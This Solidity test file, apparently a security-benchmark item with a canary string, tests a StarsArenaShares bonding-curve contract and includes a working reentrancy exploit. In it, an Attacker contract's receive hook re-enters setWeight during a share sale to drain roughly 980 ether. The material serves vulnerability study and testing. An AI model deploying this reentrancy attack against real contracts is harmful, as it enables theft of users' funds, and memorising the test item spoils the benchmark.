// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./StarsArenaShares.sol";

// assay-canary-6a54baf0-7d75-40d5-a6f2-3f5334ec4b87

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    StarsArenaShares internal arena;
    Attacker internal thief;

    function setUp() public {
        arena = new StarsArenaShares();
        vm.deal(ANA, 2_000 ether);
        vm.deal(BEN, 100 ether);
        vm.prank(ANA);
        arena.buyShares{value: 1_100 ether}(ANA, 144);
        vm.deal(address(this), 1 ether);
        thief = new Attacker{value: 1 ether}(arena);
    }

    function test_Regular() public {
        require(address(arena).balance == 984.984 ether, "paid in");
        vm.prank(BEN);
        arena.buyShares{value: 50 ether}(ANA, 1);
        require(BEN.balance == 100 ether - 20.736 ether * 105 / 100 && arena.sharesBalance(ANA, BEN) == 1, "a share");
        require(arena.getSellPrice(ANA, 1) == 20.736 ether, "price");
        vm.prank(BEN);
        arena.sellShares(ANA, 1);
        require(BEN.balance == 100 ether - 20.736 ether / 10 && arena.sharesSupply(ANA) == 144, "sold");
        vm.startPrank(BEN);
        arena.setWeight(7);
        arena.buyShares{value: 1 ether}(BEN, 3);
        require(address(arena).balance == 984.984 ether + 0.035 ether, "heavier");
        vm.stopPrank();
        arena.setFee(1e17);
        require(arena.fee() == 1e17, "fee");
        vm.prank(ANA);
        arena.sellShares(ANA, 144);
        require(address(arena).balance == 0.035 ether, "all out");
    }

    function test_Refuses() public {
        vm.prank(ANA);
        vm.expectRevert(StarsArenaShares.Denied.selector);
        arena.setFee(1);
        vm.expectRevert(StarsArenaShares.Denied.selector);
        arena.setFee(1e17 + 1);
        vm.expectRevert(StarsArenaShares.Denied.selector);
        arena.setWeight(0);
        vm.startPrank(ANA);
        vm.expectRevert(StarsArenaShares.Denied.selector);
        arena.setWeight(2);
        vm.expectRevert(StarsArenaShares.Denied.selector);
        arena.buyShares(ANA, 0);
        vm.expectRevert(StarsArenaShares.Denied.selector);
        arena.buyShares(BEN, 1);
        vm.expectRevert(StarsArenaShares.Short.selector);
        arena.buyShares{value: 21 ether}(ANA, 1);
        vm.expectRevert(StarsArenaShares.Denied.selector);
        arena.sellShares(ANA, 0);
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert();
        arena.sellShares(ANA, 1);
        vm.deal(address(this), 30 ether);
        vm.expectRevert(StarsArenaShares.Failed.selector);
        arena.buyShares{value: 30 ether}(ANA, 1);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = address(thief).balance;
        exploit();
        require(address(thief).balance >= before + 980 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(arena);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Changes the weight of its shares while it gets the fee of the last of them.
contract Attacker {
    StarsArenaShares internal arena;
    bool internal selling;

    constructor(StarsArenaShares arena_) payable {
        arena = arena_;
    }

    receive() external payable {
        if (!selling) return;
        selling = false;
        arena.setWeight(3_450);
    }

    function run() external {
        arena.buyShares{value: 0.5 ether}(address(this), 10);
        selling = true;
        arena.sellShares(address(this), 10);
    }
}
